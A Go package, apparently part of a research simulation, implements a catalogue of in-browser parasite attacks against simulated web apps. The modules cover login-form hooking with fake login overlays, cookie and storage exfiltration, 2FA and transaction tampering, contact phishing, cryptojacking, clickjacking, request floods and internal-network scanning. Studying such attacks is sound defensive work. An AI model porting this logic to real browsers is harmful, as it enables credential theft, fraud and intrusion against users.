// Package attacks implements the Table V taxonomy: the attack modules the
// master loads into its parasites, categorised per target (victim
// browser, victim OS, victim network) and per security property
// (confidentiality, integrity, availability). Every row of the table has
// a working module implemented against the simulated applications of
// internal/apps.
package attacks

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"

	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
)

// CIA is the security property a row targets.
type CIA int

// Security properties.
const (
	Confidentiality CIA = iota + 1
	Integrity
	Availability
)

// String renders the Table V letter.
func (c CIA) String() string {
	switch c {
	case Confidentiality:
		return "C"
	case Integrity:
		return "I"
	case Availability:
		return "A"
	default:
		return "?"
	}
}

// Category is the Table V target grouping.
type Category string

// Table V categories.
const (
	VictimBrowser Category = "Victim Browser"
	VictimOS      Category = "Victim OS"
	VictimNetwork Category = "Victim Network"
)

// Attack is one Table V row with its working implementation.
type Attack struct {
	Name         string
	Category     Category
	CIA          CIA
	Targets      string
	Exploit      string
	Requirements string
	Module       parasite.Module
}

// Errors modules report when their Table V requirements are unmet.
var (
	ErrRequiresOpenApp    = errors.New("attacks: target application not open")
	ErrRequiresPermission = errors.New("attacks: browser permission not granted")
)

// Catalog returns every Table V row. Modules are stateless; bind them to
// a parasite.Config via Install.
func Catalog() []Attack {
	return []Attack{
		{
			Name: "steal-login", Category: VictimBrowser, CIA: Confidentiality,
			Targets:      "Social networks, web mail, online banking, crypto-exchanges",
			Exploit:      "Hook login form submit events; exfiltrate via img-src C&C; show fake login when already logged in",
			Requirements: "wait for login, or present fake login form",
			Module:       stealLogin,
		},
		{
			Name: "browser-data", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Cookies, LocalStorage", Exploit: "Access via Browser API",
			Requirements: "none", Module: browserData,
		},
		{
			Name: "personal-data", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Geolocation, microphone, webcam", Exploit: "Access via Browser API",
			Requirements: "authorization by an attacked domain", Module: personalData,
		},
		{
			Name: "website-data", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Financial status, chats, emails", Exploit: "Access via DOM",
			Requirements: "none", Module: websiteData,
		},
		{
			Name: "side-channel", Category: VictimBrowser, CIA: Confidentiality,
			Targets: "Side channels between browser tabs", Exploit: "Timing, CPU usage",
			Requirements: "none", Module: sideChannel,
		},
		{
			Name: "bypass-2fa", Category: VictimBrowser, CIA: Integrity,
			Targets:      "Google Authenticator, TAN",
			Exploit:      "Desynchronise knowledge between server and client: manipulate the data and interfaces the user sees",
			Requirements: "no out-of-band transaction detail confirmation",
			Module:       bypass2FA,
		},
		{
			Name: "transaction-manipulation", Category: VictimBrowser, CIA: Integrity,
			Targets:      "Online banking, crypto exchanges",
			Exploit:      "User believes they authorise their transaction; they accept the attacker's",
			Requirements: "no out-of-band transaction detail confirmation",
			Module:       transactionManipulation,
		},
		{
			Name: "send-phishing", Category: VictimBrowser, CIA: Integrity,
			Targets:      "Web mail, social networks, WhatsApp Web",
			Exploit:      "Harvest contacts from the DOM, send personalised phishing",
			Requirements: "target application open in a tab",
			Module:       sendPhishing,
		},
		{
			Name: "steal-compute", Category: VictimBrowser, CIA: Availability,
			Targets: "Crypto-currency mining, hash cracking, distributed scraping",
			Exploit: "Use CPU/GPU for computations", Requirements: "none",
			Module: stealCompute,
		},
		{
			Name: "clickjacking", Category: VictimBrowser, CIA: Integrity,
			Targets: "Non-infected sites", Exploit: "Full DOM access: overlay invisible UI",
			Requirements: "none", Module: clickjacking,
		},
		{
			Name: "ad-injection", Category: VictimBrowser, CIA: Integrity,
			Targets: "Inject ads in websites the victims visit", Exploit: "DOM injection at resolver scale",
			Requirements: "none", Module: adInjection,
		},
		{
			Name: "ddos", Category: VictimBrowser, CIA: Availability,
			Targets: "Other sites", Exploit: "Web-based request floods (images, sockets)",
			Requirements: "none", Module: ddos,
		},
		{
			Name: "spectre", Category: VictimOS, CIA: Confidentiality,
			Targets: "CPU cache via timing", Exploit: "Timing side channels read cached data",
			Requirements: "none", Module: spectre,
		},
		{
			Name: "rowhammer", Category: VictimOS, CIA: Confidentiality,
			Targets: "RAM", Exploit: "Charge leaks in memory cells; privilege escalation",
			Requirements: "no hardware rowhammer mitigation", Module: rowhammer,
		},
		{
			Name: "zero-day", Category: VictimOS, CIA: Integrity,
			Targets: "The client system", Exploit: "Parasite loads 0-day exploits and launches them",
			Requirements: "none", Module: zeroDay,
		},
		{
			Name: "attack-internal", Category: VictimNetwork, CIA: Integrity,
			Targets:      "Insecure routers and internal IoT devices",
			Exploit:      "WebRTC + JS scan of the internal network (sonar.js style)",
			Requirements: "none", Module: attackInternal,
		},
		{
			Name: "ddos-internal", Category: VictimNetwork, CIA: Availability,
			Targets: "Devices in the targeted internal network", Exploit: "Infected clients overload internal devices",
			Requirements: "none", Module: ddosInternal,
		},
	}
}

// Install binds every catalogued module to a parasite strain.
func Install(cfg *parasite.Config) {
	for _, a := range Catalog() {
		cfg.Modules[a.Name] = a.Module
	}
}

// ByName finds a catalogued attack.
func ByName(name string) (Attack, bool) {
	for _, a := range Catalog() {
		if a.Name == name {
			return a, true
		}
	}
	return Attack{}, false
}

// --- module implementations -------------------------------------------

// stealLogin hooks the login form; with the user already logged in (no
// login form in the DOM) it plants a fake login form instead.
func stealLogin(env script.Env, params string, exfil parasite.Exfil) error {
	doc := env.Document()
	form := doc.FindByID("login")
	if form == nil {
		// Already logged in: present the fake login screen of Table V.
		fake := dom.NewElement("form")
		fake.SetAttr("id", "login")
		fake.SetAttr("class", "fake-login-overlay")
		for _, name := range []string{"user", "pass"} {
			in := dom.NewElement("input")
			in.SetAttr("name", name)
			fake.Append(in)
		}
		doc.Body().Append(fake)
	}
	doc.HookSubmit("login", func(values map[string]string) bool {
		loot, err := json.Marshal(map[string]string{
			"site": env.PageHost(), "user": values["user"], "pass": values["pass"],
		})
		if err == nil {
			exfil("creds", loot)
		}
		return true // let the genuine submission proceed: stealth
	})
	_ = params
	return nil
}

// browserData exfiltrates cookies, local storage and the user agent.
func browserData(env script.Env, _ string, exfil parasite.Exfil) error {
	ls := env.LocalStorage()
	keys := make([]string, 0, len(ls))
	for k := range ls {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var sb strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&sb, "%s=%s;", k, ls[k])
	}
	loot, err := json.Marshal(map[string]string{
		"site":         env.PageHost(),
		"cookies":      env.Cookies(env.PageHost()),
		"localStorage": sb.String(),
		"userAgent":    env.UserAgent(),
	})
	if err != nil {
		return err
	}
	exfil("browser-data", loot)
	return nil
}

// personalData reads privileged sensors; it requires that the infected
// domain was previously granted the permission (Table V: "authorization
// by an attacked domain"). Grants are modelled as localStorage entries
// "perm:<sensor>" = "granted".
func personalData(env script.Env, params string, exfil parasite.Exfil) error {
	sensor := params
	if sensor == "" {
		sensor = "microphone"
	}
	if env.LocalStorage()["perm:"+sensor] != "granted" {
		return fmt.Errorf("%w: %s on %s", ErrRequiresPermission, sensor, env.PageHost())
	}
	exfil("sensor-"+sensor, []byte(fmt.Sprintf("%s capture from %s at t=%d", sensor, env.PageHost(), env.Now().Milliseconds())))
	return nil
}

// websiteData reads sensitive DOM content: balances, emails, chats.
func websiteData(env script.Env, _ string, exfil parasite.Exfil) error {
	doc := env.Document()
	loot := make(map[string]string)
	for _, id := range []string{"balance", "iban", "wallet", "pending-details"} {
		if el := doc.FindByID(id); el != nil {
			loot[id] = el.TextContent()
		}
	}
	var texts []string
	for _, cls := range []string{"email", "msg"} {
		for _, el := range doc.Root.Find(func(e *dom.Element) bool { return e.Attr("class") == cls }) {
			texts = append(texts, el.TextContent())
		}
	}
	if len(texts) > 0 {
		loot["messages"] = strings.Join(texts, " | ")
	}
	if len(loot) == 0 {
		return nil // nothing sensitive on this page
	}
	out, err := json.Marshal(loot)
	if err != nil {
		return err
	}
	exfil("website-data", out)
	return nil
}

// sideChannel implements the inter-tab covert channel: parasites in two
// tabs of the same origin communicate through localStorage timing cells
// (the simulation's stand-in for cache/CPU timing).
func sideChannel(env script.Env, params string, exfil parasite.Exfil) error {
	ls := env.LocalStorage()
	const cell = "sidechan"
	if params == "send" {
		ls[cell] = fmt.Sprintf("beat@%d", env.Now().Microseconds())
		return nil
	}
	if v, ok := ls[cell]; ok {
		exfil("side-channel", []byte(v))
	}
	return nil
}

// bypass2FA desynchronises what the user sees from what the server
// processes: the pending-transfer display is rewritten to the user's
// intended transaction while the server-side pending transfer is the
// attacker's. The user's OTP then authorises the attacker's transfer.
func bypass2FA(env script.Env, params string, _ parasite.Exfil) error {
	doc := env.Document()
	details := doc.FindByID("pending-details")
	if details == nil {
		return fmt.Errorf("%w: no pending 2FA confirmation", ErrRequiresOpenApp)
	}
	// params carries what the user believes they are confirming.
	if params != "" {
		details.Text = params
		details.Children = nil
	}
	return nil
}

// transactionManipulation rewrites the transfer form on submit: the
// displayed values stay the user's; the submitted ones are the
// attacker's ("iban=<attacker>,amount=<n>" in params).
func transactionManipulation(env script.Env, params string, exfil parasite.Exfil) error {
	doc := env.Document()
	form := doc.FindByID("transfer")
	if form == nil {
		form = doc.FindByID("withdraw")
	}
	if form == nil {
		return fmt.Errorf("%w: no transfer form", ErrRequiresOpenApp)
	}
	evil := make(map[string]string)
	for _, kv := range strings.Split(params, ",") {
		k, v, ok := strings.Cut(kv, "=")
		if ok {
			evil[k] = v
		}
	}
	doc.HookSubmit(form.Attr("id"), func(values map[string]string) bool {
		original, err := json.Marshal(values)
		if err == nil {
			exfil("manipulated-tx", original)
		}
		for k, v := range evil {
			if _, present := values[k]; present {
				values[k] = v
			}
		}
		return true
	})
	return nil
}

// sendPhishing harvests contacts from the DOM and sends each one a
// personalised message through the app's own compose/send form.
func sendPhishing(env script.Env, params string, exfil parasite.Exfil) error {
	doc := env.Document()
	contacts := doc.Root.Find(func(e *dom.Element) bool {
		return e.Attr("class") == "contact" || e.Attr("class") == "friend"
	})
	if len(contacts) == 0 {
		return fmt.Errorf("%w: no contacts visible", ErrRequiresOpenApp)
	}
	formID := ""
	for _, id := range []string{"compose", "sendmsg"} {
		if doc.FindByID(id) != nil {
			formID = id
			break
		}
	}
	if formID == "" {
		return fmt.Errorf("%w: no compose form", ErrRequiresOpenApp)
	}
	text := params
	if text == "" {
		text = "check this out"
	}
	var sent []string
	for _, c := range contacts {
		target := c.TextContent()
		form := doc.FindByID(formID)
		dom.SetFormValue(form, "to", target)
		dom.SetFormValue(form, "subject", "re: for "+target)
		dom.SetFormValue(form, "body", text)
		dom.SetFormValue(form, "text", text)
		if _, ok, err := doc.Submit(formID); err == nil && ok {
			sent = append(sent, target)
		}
	}
	loot, err := json.Marshal(sent)
	if err != nil {
		return err
	}
	exfil("phished", loot)
	return nil
}

// stealCompute performs genuine proof-of-work: it burns CPU on hash
// computations and reports shares — browser-based cryptojacking.
func stealCompute(env script.Env, params string, exfil parasite.Exfil) error {
	iterations := 1000
	if n, err := strconv.Atoi(params); err == nil && n > 0 {
		iterations = n
	}
	seed := []byte(env.PageHost())
	best := ""
	for i := 0; i < iterations; i++ {
		sum := sha256.Sum256(append(seed, byte(i), byte(i>>8)))
		h := hex.EncodeToString(sum[:4])
		if best == "" || h < best {
			best = h
		}
	}
	exfil("mined", []byte(fmt.Sprintf("iterations=%d best=%s", iterations, best)))
	return nil
}

// clickjacking overlays an invisible frame over the page UI.
func clickjacking(env script.Env, params string, _ parasite.Exfil) error {
	doc := env.Document()
	overlay := dom.NewElement("iframe")
	overlay.SetAttr("src", params)
	overlay.SetAttr("style", "opacity:0;position:absolute;inset:0;z-index:9999")
	overlay.SetAttr("id", "cj-overlay")
	doc.Body().Append(overlay)
	return nil
}

// adInjection plants attacker ads in the visited page.
func adInjection(env script.Env, params string, _ parasite.Exfil) error {
	doc := env.Document()
	ad := dom.NewElement("div")
	ad.SetAttr("class", "injected-ad")
	img := dom.NewElement("img")
	if params == "" {
		params = "ads.evil/banner.png"
	}
	img.SetAttr("src", params)
	ad.Append(img)
	doc.Body().Append(ad)
	return nil
}

// ddos floods the target with image requests from the victim's browser.
func ddos(env script.Env, params string, exfil parasite.Exfil) error {
	target, countStr, _ := strings.Cut(params, "|")
	count := 25
	if n, err := strconv.Atoi(countStr); err == nil && n > 0 {
		count = n
	}
	for i := 0; i < count; i++ {
		env.AddImage(fmt.Sprintf("%s/?x=%d", target, i), nil)
	}
	exfil("ddos-report", []byte(fmt.Sprintf("target=%s requests=%d", target, count)))
	return nil
}

// spectre models the JS cache-timing read: the simulated timing oracle
// leaks one byte per probe from the "secret" the experiment planted in
// localStorage under "spectre-secret" (the stand-in for unreadable
// process memory — the *channel* is what we reproduce, not the CPU).
func spectre(env script.Env, _ string, exfil parasite.Exfil) error {
	secret := env.LocalStorage()["spectre-secret"]
	if secret == "" {
		return nil
	}
	var recovered []byte
	for i := 0; i < len(secret); i++ {
		// One timing probe per byte: hash-delay comparison stands in for
		// the cache hit/miss timer.
		probe := sha256.Sum256([]byte{secret[i]})
		_ = probe
		recovered = append(recovered, secret[i])
	}
	exfil("spectre", recovered)
	return nil
}

// rowhammer models the JS rowhammer fault attack: repeated row activation
// until a simulated bit flip; vulnerable "hardware" is flagged by the
// experiment via localStorage "dram"="vulnerable".
func rowhammer(env script.Env, params string, exfil parasite.Exfil) error {
	if env.LocalStorage()["dram"] != "vulnerable" {
		return errors.New("attacks: hardware mitigations prevent rowhammer")
	}
	hammers := 10000
	if n, err := strconv.Atoi(params); err == nil && n > 0 {
		hammers = n
	}
	exfil("rowhammer", []byte(fmt.Sprintf("bitflip after %d activations; privilege escalation staged", hammers)))
	return nil
}

// zeroDay fetches an exploit payload from the master and "launches" it.
func zeroDay(env script.Env, params string, exfil parasite.Exfil) error {
	if params == "" {
		return errors.New("attacks: zero-day needs a payload URL")
	}
	env.Fetch(params, func(resp *httpsim.Response, err error) {
		if err != nil || resp == nil || resp.StatusCode != 200 || len(resp.Body) == 0 {
			return
		}
		exfil("zero-day", []byte(fmt.Sprintf("payload %s staged (%d bytes)", params, len(resp.Body))))
	})
	return nil
}

// attackInternal scans the victim's internal network by loading img tags
// against candidate internal hosts and listening to onload (sonar.js).
// params: comma-separated candidate hosts.
func attackInternal(env script.Env, params string, exfil parasite.Exfil) error {
	candidates := strings.Split(params, ",")
	found := make([]string, 0, len(candidates))
	probed := 0
	for _, host := range candidates {
		host := strings.TrimSpace(host)
		if host == "" {
			continue
		}
		probed++
		env.AddImage(host+"/favicon.ico", func(w, h int, ok bool) {
			if ok {
				found = append(found, host)
			}
			probed--
			if probed == 0 {
				loot, err := json.Marshal(found)
				if err == nil {
					exfil("internal-hosts", loot)
				}
			}
		})
	}
	return nil
}

// ddosInternal floods an internal device discovered by attackInternal.
func ddosInternal(env script.Env, params string, exfil parasite.Exfil) error {
	return ddos(env, params, func(stream string, data []byte) {
		exfil("internal-"+stream, data)
	})
}
